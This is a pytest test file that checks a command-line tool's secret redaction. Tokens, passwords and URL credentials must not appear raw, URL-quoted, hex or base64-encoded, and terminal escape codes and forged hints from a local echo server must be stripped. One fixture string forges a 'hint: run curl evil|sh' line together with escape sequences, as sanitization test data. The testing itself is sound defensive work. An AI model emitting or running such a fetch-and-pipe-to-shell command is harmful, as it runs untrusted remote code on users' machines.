"""A secret appears nowhere, in no form; text from outside drives no terminal and forges no hint."""

from __future__ import annotations

import base64
import http.server
import json
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from typer.testing import Result

from burn.text import secrets
from burn.text.secrets import conceal, conceal_in_urls, scrub
from tests.unit.cli.conftest import alone, burn, toyland

__all__ = ["alone", "burn", "toyland"]  # fixtures
Burn = Callable[..., Result]
TOKEN = "eyJhbGciOiSECRET/PART+1"
FORGED = "\x1b[2J\x1b[31mpwn\nhint: run curl evil|sh\x9b1m"


@pytest.fixture(autouse=True)
def forgotten(monkeypatch: pytest.MonkeyPatch) -> None:
    """Other tests may print what is a secret here."""
    monkeypatch.setattr(secrets, "_known", {})


@pytest.fixture
def echo() -> Iterator[str]:
    """A gateway that refuses every request and quotes what it was sent."""

    class Echo(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            sent = self.headers.get("authorization", "")
            forms = [sent, repr(sent), quote(sent), sent.encode().hex()]
            forms.append(base64.b64encode(f"x={sent};".encode()).decode())
            body = json.dumps({"status": "error", "error": f"bad token {forms} {FORGED}"}).encode()
            self.send_response(400)
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_: object) -> None: ...

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Echo)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


def ways(tmp_path: Path) -> dict[str, list[str]]:
    file = tmp_path / "token"
    file.write_text(f"{TOKEN}\n")
    return {
        "setting": [f"bearer_token={TOKEN}"],
        "line break": [f"bearer_token={TOKEN}\n"],
        "two lines": [f"bearer_token={TOKEN}\nnext"],
        "file": [f"bearer_token_file={file}"],
        "basic": ["username=u", f"password={TOKEN}"],
        "header": [f"headers=Authorization=Token {TOKEN}"],
    }


@pytest.mark.parametrize(
    "way", [*ways(Path("/dev/shm"))] if Path("/dev/shm").is_dir() else ["file"]
)
@pytest.mark.parametrize("command", ["collect", "doctor", "config"])
def test_a_token_is_shown_nowhere(
    burn: Burn, echo: str, tmp_path: Path, way: str, command: str
) -> None:
    sets = [f"--set=source.prometheus.{pair}" for pair in [f"url={echo}", *ways(tmp_path)[way]]]
    window = "--window=2026-10-01..2026-10-02"
    words = {
        "collect": ["collect", "--source=prometheus", window, f"--out={tmp_path}/days"],
        "doctor": ["doctor", "--provider=toy", "--source=prometheus", window, "--format=json"],
        "config": ["config", "show", "--provider=toy", "--source=prometheus", "--format=json"],
    }[command]
    result = burn(*words, *sets)
    shown = result.stdout + result.stderr
    basic = base64.b64encode(f"u:{TOKEN}".encode()).decode()
    for form in (TOKEN, quote(TOKEN), TOKEN.encode().hex(), basic, "SECRET/PART", "SECRETPART"):
        assert form not in shown
    for text in (base64.b64encode(f"{'x' * n}{TOKEN}".encode()).decode() for n in range(3)):
        assert text[8:-6] not in shown
    assert "\x1b" not in shown
    assert "\nhint: run curl" not in shown


@pytest.mark.parametrize(
    "url",
    [
        "u:hunter2@h:9090",
        "http://u:hunter2@h",
        "http://u:hunter2/x@h/prometheus",
        "https://h/?key=hunter2",
        "https://h/?a=b&auth=hunter2",
        "https://h/?api_key=hunter2",
    ],
)
def test_what_signs_in_to_an_address_is_hidden(burn: Burn, url: str) -> None:
    place = (f"--set=source.prometheus.url={url}", "--set=source.prometheus.attempts=1")
    for words in (["config", "show", "--format=json"], ["doctor"]):
        result = burn(*words, "--provider=toy", "--source=prometheus", *place)
        assert "hunter2" not in result.stdout + result.stderr


def test_every_form_of_a_secret_and_nothing_else() -> None:
    conceal(["s3cr3t/with+more", {"key": b"bytes of it"}])
    conceal_in_urls(["abfss://container@account.example/x", "s3://bucket/a@b"])
    hidden = ["s3cr3t/with+more", "s3cr3t%2Fwith%2Bmore", "bytes of it", "Bearer abcdefgh12345"]
    for text in hidden:
        assert text.removeprefix("Bearer ") not in scrub(f"<{text}>")
    for text in [
        "abfss://container@account.example/x",
        "a plain sentence",
        "basic authentication",
        "s3://bucket/a@b",
    ]:
        assert scrub(text) == text
